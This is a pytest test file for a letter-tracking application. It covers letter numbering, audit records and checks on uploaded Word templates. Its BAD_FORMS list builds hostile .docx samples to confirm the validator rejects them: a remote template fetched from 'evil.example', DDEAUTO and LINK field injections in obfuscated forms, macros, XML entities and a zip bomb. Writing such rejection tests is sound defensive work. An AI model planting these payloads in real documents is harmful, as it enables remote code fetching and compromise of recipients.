"""Official letters: made, kept with their chase, numbered when the registry has issued them; forms brought along."""
from __future__ import annotations

import zipfile
from datetime import date, timedelta
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from sqlalchemy import select
from sqlalchemy.orm import Session

from tests.factories import NOW, TODAY, Factory
from tests.reports.letter_cases import SIGNING
from tracker.models import Actor, Agency, Assignment, Chase, Letter, LetterTemplate, User
from tracker.models.access import NotVisible, letter_for
from tracker.models.audit import AuditEntry
from tracker.reports.chase_history import recent_chases
from tracker.reports.letter_check import check
from tracker.reports.letter_template import built_in
from tracker.reports.letters import Order, earlier_chases, template_of
from tracker.rules.errors import Refusal
from tracker.rules.permissions import Role
from tracker.rules.personal_data import IdentityNumber, PersonList
from tracker.rules.states import ChaseChannel, ChaseTone
from tracker.workflow import letter_templates, lettering
from tracker.workflow.chasing import NothingToChase, chase_for
from tracker.workflow.evidence import FileTooLarge, Upload
from tracker.workflow.file_types import MacroFile, UnknownFile, WrongEnding

DAY = timedelta(days=1)


def order(**changes: Any) -> Order:
    values = {"signing": SIGNING, "subject": "", "request_subject": "", "reply_by": TODAY + 7 * DAY, **changes}
    return Order(**values)


def late(make: Factory, coordinator: User, agency: Agency | None = None, **values: Any) -> Assignment:
    values = {"due_on": TODAY - 5 * DAY, **values}
    return make.assignment(agency or make.agency(), make.plan(coordinator.agency), **values)


def as_actor(user: User) -> Actor:
    return Actor(user.name, "127.0.0.1", user)


def write(session: Session, user: User, *items: Assignment, folder: Path, **changes: Any) -> lettering.Made:
    values = {"order": order(), "one_each": True, "form_key": "key", **changes}
    made = lettering.write(session, as_actor(user), [item.id for item in items], evidence_folder=folder, today=TODAY,
                           now=NOW, **values)
    session.commit()
    return made


def test_each_agency_gets_a_letter_kept_with_the_chase(session: Session, make: Factory, tmp_path: Path) -> None:
    user = make.coordinator()
    one, two = late(make, user), late(make, user)

    chase = write(session, user, one, two, folder=tmp_path).chase

    assert (chase.channel, chase.tone) == (ChaseChannel.LETTER, ChaseTone.OFFICIAL)
    assert [(item.assignment_id, item.days_late, item.recipients) for item in chase.items] == [
        (one.id, 5, 0), (two.id, 5, 0)]
    assert [letter.agency_id for letter in chase.letters] == [one.agency_id, two.agency_id]
    for letter in chase.letters:
        content = lettering.content_of(tmp_path, letter)
        assert len(content) == letter.size
        assert check(content) == []
        assert letter.file_name.startswith("cong-van-don-doc-so-so-")


def test_one_letter_to_all_leaves_out_those_that_are_only_asked(
    session: Session, make: Factory, tmp_path: Path
) -> None:
    user = make.coordinator()
    one, two = late(make, user), late(make, user)
    asked = late(make, user, make.agency("Tòa án nhân dân tỉnh", is_requested=True))

    letters = write(session, user, one, two, asked, folder=tmp_path, one_each=False).chase.letters

    assert [letter.agency_id for letter in letters] == [None, asked.agency_id]
    assert letters[1].file_name == "cong-van-de-nghi-toa-an-nhan-dan-tinh.docx"


def test_what_is_not_late_or_anothers_is_left_out(session: Session, make: Factory, tmp_path: Path) -> None:
    user, other = make.coordinator(), make.coordinator()
    mine, done, theirs = late(make, user), late(make, user, due_on=TODAY), late(make, other)

    made = write(session, user, mine, done, theirs, folder=tmp_path)

    assert [item.assignment_id for item in made.chase.items] == [mine.id]
    assert made.left_out == 1
    with pytest.raises(NothingToChase):
        write(session, user, theirs, folder=tmp_path, form_key="other")


def test_the_same_press_twice_is_one_chase(session: Session, make: Factory, tmp_path: Path) -> None:
    user = make.coordinator()
    item = late(make, user)

    first = write(session, user, item, folder=tmp_path)
    second = write(session, user, item, folder=tmp_path)

    assert first.chase is second.chase
    assert len(session.scalars(select(Letter)).all()) == 1


def test_a_second_letter_speaks_of_the_first_by_its_number(session: Session, make: Factory, tmp_path: Path) -> None:
    user = make.coordinator()
    item = late(make, user)
    letter = write(session, user, item, folder=tmp_path).chase.letters[0]
    number(session, letter, user, "152/CAT-PC04")

    drafts, _found = lettering.drafts(session, user, [item.id], order(), one_each=True, today=TODAY)

    assert earlier_chases(session, [item.id])[item.id][0].number == "152/CAT-PC04"
    assert "đã đôn đốc tại Công văn số 152/CAT-PC04 ngày 18 tháng 3 năm 2026" in "\n".join(
        drafts[0].values["paragraphs"])


@pytest.mark.parametrize("changes", [{"extra": ("CCCD 001099012345",)}, {"subject": "ông A, số 001099012345"}])
def test_identity_numbers_are_refused(session: Session, make: Factory, tmp_path: Path, changes: dict[str, Any]) -> None:
    user = make.coordinator()

    with pytest.raises(IdentityNumber):
        write(session, user, late(make, user), folder=tmp_path, order=order(**changes))


def test_the_answer_must_be_wanted_later_than_today(session: Session, make: Factory, tmp_path: Path) -> None:
    user = make.coordinator()

    with pytest.raises(lettering.ReplyTooEarly):
        write(session, user, late(make, user), folder=tmp_path, order=order(reply_by=TODAY))


def test_the_next_letter_is_signed_like_the_last_of_the_same_agency(
    session: Session, make: Factory, tmp_path: Path
) -> None:
    user, other = make.coordinator(), make.coordinator()
    assert lettering.last_signing(session, user) is None

    write(session, user, late(make, user), folder=tmp_path)

    assert lettering.last_signing(session, user) == SIGNING
    assert lettering.last_signing(session, other) is None


def number(session: Session, letter: Letter, user: User, words: str, issued_on: date = TODAY, seen: str = "",
           today: date = TODAY) -> None:
    lettering.record_number(session, letter, actor=as_actor(user), number=words, issued_on=issued_on, seen=seen,
                            today=today, now=NOW)
    session.commit()


def test_a_number_is_written_once_and_corrected_with_what_was_there(
    session: Session, make: Factory, tmp_path: Path
) -> None:
    user = make.coordinator()
    letter = write(session, user, late(make, user), folder=tmp_path).chase.letters[0]

    number(session, letter, user, " 152 / CAT-PC04 ")
    number(session, letter, user, "153/CAT-PC04", seen="152/CAT-PC04", issued_on=TODAY + DAY, today=TODAY + DAY)

    assert (letter.number, letter.issued_on, letter.recorded_by_id) == ("153/CAT-PC04", TODAY + DAY, user.id)
    rows = session.scalars(select(AuditEntry).where(AuditEntry.subject_type == "letter").order_by(AuditEntry.id)).all()
    assert [(row.action, row.before["number"], row.after["number"]) for row in rows] == [  # type: ignore[index]
        ("letter.number_recorded", None, "152/CAT-PC04"),
        ("letter.number_corrected", "152/CAT-PC04", "153/CAT-PC04"),
    ]


@pytest.mark.parametrize(("words", "issued_on", "refusal"), [
    ("một trăm", TODAY, lettering.BadLetterNumber),
    ("152", TODAY, lettering.BadLetterNumber),
    ("152/" + "A" * 60, TODAY, lettering.BadLetterNumber),
    ("152/CAT-PC04", TODAY + DAY, lettering.IssuedInFuture),
    ("152/CAT-PC04", TODAY - DAY, lettering.IssuedBeforeMade),
])
def test_what_can_be_no_number_or_date_is_refused(
    session: Session, make: Factory, tmp_path: Path, words: str, issued_on: date, refusal: type[Refusal]
) -> None:
    user = make.coordinator()
    letter = write(session, user, late(make, user), folder=tmp_path).chase.letters[0]

    with pytest.raises(refusal):
        number(session, letter, user, words, issued_on)


def test_two_people_who_write_the_number_down_notice_each_other(
    session: Session, make: Factory, tmp_path: Path
) -> None:
    user = make.coordinator()
    letter = write(session, user, late(make, user), folder=tmp_path).chase.letters[0]
    number(session, letter, user, "152/CAT-PC04")

    with pytest.raises(lettering.NumberChanged) as refused:
        number(session, letter, user, "153/CAT-PC04", seen="")

    assert refused.value.values == {"number": "152/CAT-PC04"}


# Forms that an administrator brings.


def bring(session: Session, user: User, agency: Agency, content: bytes, folder: Path, name: str = "mau.docx") -> Any:
    result = letter_templates.accept(session, agency, Upload(name, BytesIO(content)), actor=as_actor(user),
                                     evidence_folder=folder, now=NOW)
    session.commit()
    return result


def changed(change: Any) -> bytes:
    document = Document(BytesIO(built_in()))
    change(document)
    stream = BytesIO()
    document.save(stream)
    return stream.getvalue()


def repacked(**parts: bytes) -> bytes:
    """Give the built-in form with parts added or replaced; "__" stands for "/", the last "_" for "."."""
    named = {name.replace("__", "/").rpartition("_")[0] + "." + name.rpartition("_")[2]: content
             for name, content in parts.items()}
    stream = BytesIO()
    with zipfile.ZipFile(BytesIO(built_in())) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename not in named:
                new.writestr(part.filename, old.read(part))
        for name, content in named.items():
            new.writestr(name, content)
    return stream.getvalue()


def test_letters_are_made_in_the_agencys_own_form_until_it_is_retired(
    session: Session, make: Factory, tmp_path: Path
) -> None:
    administrator, user = make.user(Role.ADMINISTRATOR), make.coordinator()
    content = changed(lambda document: document.paragraphs[-1].insert_paragraph_before("Điện thoại: 0203"))

    row, _findings = bring(session, administrator, user.agency, content, tmp_path)
    own = write(session, user, late(make, user), folder=tmp_path).chase.letters[0]
    letter_templates.retire(session, row, actor=as_actor(administrator), now=NOW)
    session.commit()
    plain = write(session, user, late(make, user), folder=tmp_path, form_key="2").chase.letters[0]

    def words(letter: Letter) -> str:
        return "\n".join(p.text for p in Document(BytesIO(lettering.content_of(tmp_path, letter))).paragraphs)

    assert "Điện thoại: 0203" in words(own)
    assert "Điện thoại: 0203" not in words(plain)
    assert template_of(session, user.agency_id) is None
    actions = session.scalars(select(AuditEntry.action).where(AuditEntry.subject_type == "letter_template")).all()
    assert sorted(actions) == ["letter_template.accepted", "letter_template.retired"]


def test_the_built_in_form_is_taken_without_a_finding(session: Session, make: Factory, tmp_path: Path) -> None:
    administrator, user = make.user(Role.ADMINISTRATOR), make.coordinator()

    assert bring(session, administrator, user.agency, built_in(), tmp_path)[1] == []


def test_a_form_that_differs_from_the_decree_is_taken_with_warnings(
    session: Session, make: Factory, tmp_path: Path
) -> None:
    from docx.shared import Mm

    administrator, user = make.user(Role.ADMINISTRATOR), make.coordinator()
    content = changed(lambda document: setattr(document.sections[0], "left_margin", Mm(20)))

    _row, findings = bring(session, administrator, user.agency, content, tmp_path)

    assert [finding.key.value for finding in findings] == ["margin"]


_OUTSIDE = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006'
            b'/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
            b'</Relationships>')


def _field(*instructions: bytes) -> bytes:
    """Give a part whose fields say this, each begun and split as Word writes them."""
    fields = b"".join(b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>' + said +
                      b"</w:instrText></w:r>" for said in instructions)
    return b'<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' + fields + b"</w:p>"


BAD_FORMS: list[tuple[str, str, bytes, type[Refusal]]] = [
    ("another kind of file", "mau.docx", b"%PDF-1.7 no form", WrongEnding),
    ("a text", "mau.txt", b"no form", WrongEnding),
    ("bytes of nothing", "mau.docx", bytes(range(256)) * 4, UnknownFile),
    ("too large", "mau.docx", b"PK\x03\x04" + bytes(3 * 1024 * 1024), FileTooLarge),
    ("macros", "mau.docx", repacked(word__vbaProject_bin=b"x"), MacroFile),
    ("an embedded object", "mau.docx", repacked(word__embeddings__object_doc=b"x"), letter_templates.ActiveTemplate),
    ("a remote template", "mau.docx", repacked(**{"word___rels__settings.xml_rels": _OUTSIDE}),
     letter_templates.ActiveTemplate),
    ("the same in another encoding", "mau.docx", repacked(**{
        "word___rels__settings.xml_rels": _OUTSIDE.decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
     letter_templates.ActiveTemplate),
    ("entities", "mau.docx", repacked(word__more_xml=b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'),
     letter_templates.ActiveTemplate),
    ("a field that fetches", "mau.docx", repacked(
        word__more_xml=b'<x xmlns:w="w"><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText></x>'),
     letter_templates.ActiveTemplate),
    *((f"the field {label}", "mau.docx", repacked(**{part: content}), letter_templates.ActiveTemplate)
      for label, part, content in (
          ("in small letters", "word__more_xml", _field(b"ddeauto c:\\x")),
          ("behind another field", "word__more_xml", _field(b"PAGE", b"DDEAUTO c:\\x")),
          ("written as a number", "word__more_xml", _field(b"&#68;DEAUTO c:\\x")),
          ("under another prefix", "word__more_xml", _field(b"DDEAUTO c:\\x").replace(b"w:", b"q:")),
          ("that links", "word__more_xml", _field(b' LINK Excel.Sheet.8 "\\\\evil\\x.xls"')),
          ("in a part of another name", "word__more_dat", _field(b"DDEAUTO c:\\x")))),
    ("a remote template in capitals", "mau.docx", repacked(**{"word___rels__settings.xml_RELS": _OUTSIDE}),
     letter_templates.ActiveTemplate),
    ("a bomb", "mau.docx", repacked(word__more_xml=b"<x>" + b" " * 30_000_000 + b"</x>"), FileTooLarge),
]


@pytest.mark.parametrize(("name", "content", "refusal"),
                         [pytest.param(*rest, id=label) for label, *rest in BAD_FORMS])
def test_dangerous_or_foreign_forms_are_refused_and_not_kept(
    session: Session, make: Factory, tmp_path: Path, name: str, content: bytes, refusal: type[Refusal]
) -> None:
    administrator, user = make.user(Role.ADMINISTRATOR), make.coordinator()

    with pytest.raises(refusal):
        bring(session, administrator, user.agency, content, tmp_path, name)

    session.rollback()
    assert session.scalars(select(LetterTemplate)).all() == []
    assert list(tmp_path.iterdir()) == []


def test_a_form_with_page_numbers_and_an_address_to_press_is_taken(
    session: Session, make: Factory, tmp_path: Path
) -> None:
    administrator, user = make.user(Role.ADMINISTRATOR), make.coordinator()
    content = repacked(word__more_xml=_field(b" PAGE ", b' HYPERLINK "https://haduong.example/link" '))

    assert bring(session, administrator, user.agency, content, tmp_path)[0].id


def test_nothing_is_kept_when_a_form_breaks(session: Session, make: Factory, tmp_path: Path) -> None:
    user = make.coordinator()
    item = late(make, user)
    session.add(LetterTemplate(agency_id=user.agency_id, uploaded_by_id=user.id, uploaded_at=NOW,
                               **lettering.store(tmp_path, "mau.docx", b"broken on the disk", NOW)))
    session.commit()

    with pytest.raises(Refusal):
        write(session, user, item, folder=tmp_path)

    session.rollback()
    assert session.scalars(select(Chase)).all() == []


def test_who_goes_to_another_agency_takes_no_letters_along(session: Session, make: Factory, tmp_path: Path) -> None:
    user, there = make.coordinator(), make.coordinator()
    successor = make.user(Role.COORDINATOR, user.agency)
    chase = write(session, user, late(make, user), folder=tmp_path).chase
    letter = chase.letters[0]
    user.agency_id = there.agency_id
    session.commit()

    for gone in (user, there):
        with pytest.raises(NotVisible):
            letter_for(session, gone, letter.id)
        with pytest.raises(NotVisible):
            chase_for(session, gone, chase.id)
        assert recent_chases(session, gone) == []
        assert lettering.last_signing(session, gone) is None
    assert letter_for(session, successor, letter.id) is letter
    assert chase_for(session, successor, chase.id) is chase
    assert [one.id for one in recent_chases(session, successor)] == [chase.id]
    assert lettering.last_signing(session, successor) == SIGNING


def test_a_list_of_persons_is_no_part_of_a_letter(session: Session, make: Factory, tmp_path: Path) -> None:
    user = make.coordinator()
    extra = ("Nguyễn Văn An, sinh năm 1990", "Trần Thị Bình, sinh năm 1985")

    with pytest.raises(PersonList):
        write(session, user, late(make, user), folder=tmp_path, order=order(extra=extra))
